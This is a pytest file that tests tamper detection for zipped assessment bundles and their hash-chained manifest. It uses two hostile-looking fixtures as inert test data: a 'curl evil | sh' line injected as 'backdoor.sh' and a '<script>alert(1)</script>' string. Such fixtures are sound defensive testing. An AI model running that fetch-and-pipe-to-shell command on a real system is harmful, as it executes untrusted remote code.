"""Bundles: reproducible, atomic, and any change to any byte is caught by verify."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest

from assess import bundle as bundle_mod
from assess.bundle import MANIFEST_NAME, bundle_folder, verify_bundle
from assess.errors import InputError


@pytest.fixture
def assessment(tmp_path: Path) -> Path:
    folder = tmp_path / "assessment"
    (folder / "gate").mkdir(parents=True)
    (folder / "merged.cdx.json").write_text('{"bomFormat": "CycloneDX"}\n')
    (folder / "gate" / "opa_result.json").write_text('{"findings": []}\n')
    (folder / "notes.md").write_text("# a hostile <script>alert(1)</script> note\n")
    return folder


@pytest.fixture
def epoch(monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")


def test_two_bundles_of_one_folder_under_one_source_date_epoch_are_byte_identical(assessment, tmp_path, epoch):
    first = bundle_folder(assessment, tmp_path / "dist1")
    second = bundle_folder(assessment, tmp_path / "dist2")
    assert first.bundle == second.bundle
    one = (tmp_path / "dist1" / first.bundle).read_bytes()
    two = (tmp_path / "dist2" / second.bundle).read_bytes()
    assert one == two
    assert (tmp_path / "dist1" / MANIFEST_NAME).read_bytes() == (tmp_path / "dist2" / MANIFEST_NAME).read_bytes()


def test_bundling_the_same_folder_twice_records_it_once(assessment, tmp_path, epoch):
    bundle_folder(assessment, tmp_path / "dist")
    bundle_folder(assessment, tmp_path / "dist")
    manifest = json.loads((tmp_path / "dist" / MANIFEST_NAME).read_text())
    assert len(manifest["entries"]) == 1


def test_intact_bundle_verifies_and_records_every_file_digest(assessment, tmp_path, epoch):
    entry = bundle_folder(assessment, tmp_path / "dist")
    assert set(entry.files) == {"merged.cdx.json", "gate/opa_result.json", "notes.md"}
    result = verify_bundle(tmp_path / "dist" / entry.bundle)
    assert result.intact, result.problems


def test_flipping_any_single_byte_of_a_bundle_makes_verify_fail(assessment, tmp_path, epoch):
    entry = bundle_folder(assessment, tmp_path / "dist")
    path = tmp_path / "dist" / entry.bundle
    original = path.read_bytes()
    for index in range(len(original)):
        flipped = bytearray(original)
        flipped[index] ^= 0x01
        path.write_bytes(bytes(flipped))
        assert not verify_bundle(path).intact, f"byte {index} flipped and not caught"
    path.write_bytes(original)
    assert verify_bundle(path).intact


def _rewrite_zip(path: Path, drop: str | None = None, add: tuple[str, bytes] | None = None) -> None:
    with zipfile.ZipFile(path) as zf:
        items = [(i, zf.read(i.filename)) for i in zf.infolist()]
    with zipfile.ZipFile(path, "w") as zf:
        for info, data in items:
            if info.filename != drop:
                zf.writestr(info, data)
        if add:
            zf.writestr(add[0], add[1])


def test_a_deleted_file_inside_is_named(assessment, tmp_path, epoch):
    entry = bundle_folder(assessment, tmp_path / "dist")
    path = tmp_path / "dist" / entry.bundle
    _rewrite_zip(path, drop="notes.md")
    problems = verify_bundle(path).problems
    assert "file missing from the bundle: notes.md" in problems


def test_an_added_file_inside_is_named(assessment, tmp_path, epoch):
    entry = bundle_folder(assessment, tmp_path / "dist")
    path = tmp_path / "dist" / entry.bundle
    _rewrite_zip(path, add=("backdoor.sh", b"curl evil | sh\n"))
    assert "file added to the bundle: backdoor.sh" in verify_bundle(path).problems


def _three_bundles(assessment: Path, dist: Path, monkeypatch) -> list[str]:
    names = []
    for i, epoch in enumerate(("1700000000", "1700086400", "1700172800")):
        monkeypatch.setenv("SOURCE_DATE_EPOCH", epoch)
        (assessment / "run.txt").write_text(f"run {i}\n")
        names.append(bundle_folder(assessment, dist).bundle)
    return names


def test_the_chain_catches_a_removed_manifest_entry(assessment, tmp_path, monkeypatch):
    dist = tmp_path / "dist"
    names = _three_bundles(assessment, dist, monkeypatch)
    manifest_path = dist / MANIFEST_NAME
    manifest = json.loads(manifest_path.read_text())
    assert [e["previous"] for e in manifest["entries"]][1:] == [e["entry_digest"] for e in manifest["entries"]][:-1]
    del manifest["entries"][1]
    manifest_path.write_text(json.dumps(manifest))
    problems = verify_bundle(dist / names[2]).problems
    assert any("chain broken at entry 1" in p for p in problems)


def test_the_head_catches_a_removed_last_entry(assessment, tmp_path, monkeypatch):
    dist = tmp_path / "dist"
    names = _three_bundles(assessment, dist, monkeypatch)
    manifest_path = dist / MANIFEST_NAME
    manifest = json.loads(manifest_path.read_text())
    del manifest["entries"][2]
    manifest_path.write_text(json.dumps(manifest))
    assert any("head" in p for p in verify_bundle(dist / names[0]).problems)


def test_an_altered_manifest_entry_is_caught(assessment, tmp_path, epoch):
    entry = bundle_folder(assessment, tmp_path / "dist")
    manifest_path = tmp_path / "dist" / MANIFEST_NAME
    manifest = json.loads(manifest_path.read_text())
    manifest["entries"][0]["created"] = "2001-01-01T00:00:00Z"
    manifest_path.write_text(json.dumps(manifest))
    assert any("altered" in p for p in verify_bundle(tmp_path / "dist" / entry.bundle).problems)


def test_a_crash_while_zipping_leaves_no_half_bundle_and_the_manifest_untouched(assessment, tmp_path, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    dist = tmp_path / "dist"
    bundle_folder(assessment, dist)
    before = (dist / MANIFEST_NAME).read_bytes()
    (assessment / "more.txt").write_text("more\n")

    real_zip_info = bundle_mod._zip_info

    def crash_on_second_file(name, when):
        if name == "more.txt":
            raise OSError(28, "No space left on device")
        return real_zip_info(name, when)

    monkeypatch.setattr(bundle_mod, "_zip_info", crash_on_second_file)
    with pytest.raises(OSError):
        bundle_folder(assessment, dist)
    assert (dist / MANIFEST_NAME).read_bytes() == before
    assert sorted(p.name for p in dist.iterdir() if not p.name.startswith(".assessments_manifest.json.lock")) == [
        next(p.name for p in dist.glob("assessment-*.zip")), MANIFEST_NAME
    ]


def test_verify_cli_exit_codes_intact_tampered_unusable(assessment, tmp_path, carnot):
    env = {"SOURCE_DATE_EPOCH": "1700000000"}
    dist = tmp_path / "dist"
    made = carnot("bundle", str(assessment), "--dist", str(dist), "--json", env=env)
    assert made.returncode == 0, made.stderr
    name = json.loads(made.stdout)["bundle"]
    assert carnot("verify", str(dist / name)).returncode == 0
    report = json.loads(carnot("verify", str(dist / name), "--json").stdout)
    assert report["status"] == "intact"
    data = bytearray((dist / name).read_bytes())
    data[-30] ^= 0xFF
    (dist / name).write_bytes(bytes(data))
    tampered = carnot("verify", str(dist / name))
    assert tampered.returncode == 1 and "Traceback" not in tampered.stderr
    missing = carnot("verify", str(dist / "assessment-nope.zip"))
    assert missing.returncode == 2 and "no such bundle" in missing.stderr
    no_manifest = carnot("verify", str(dist / name), "--manifest", str(tmp_path / "none.json"))
    assert no_manifest.returncode == 2 and "no manifest" in no_manifest.stderr


def test_bundling_a_missing_or_empty_folder_is_a_clean_error(tmp_path):
    with pytest.raises(InputError, match="no such folder"):
        bundle_folder(tmp_path / "missing", tmp_path / "dist")
    (tmp_path / "empty").mkdir()
    with pytest.raises(InputError, match="empty"):
        bundle_folder(tmp_path / "empty", tmp_path / "dist")
